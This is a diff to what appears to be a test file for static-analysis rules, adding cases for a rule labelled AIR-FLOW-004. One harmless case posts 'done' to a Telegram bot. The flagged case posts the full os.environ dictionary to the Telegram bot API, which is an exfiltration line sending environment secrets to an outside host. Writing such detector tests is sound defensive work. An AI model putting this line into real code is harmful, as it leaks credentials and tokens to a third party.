@@ -112,3 +112,9 @@ csv = requests.get("https://example.invalid/data.csv").content
 open("data.csv", "wb").write(csv)
 # ok: AIR-FLOW-005
 subprocess.run(["wc", "-l", "report.txt"])
+
+BOT_TOKEN = os.environ.get("BOT_TOKEN", "")
+# ok: AIR-FLOW-004
+requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", data={"text": "done"})
+# ruleid: AIR-FLOW-004
+requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", data={"text": os.environ})
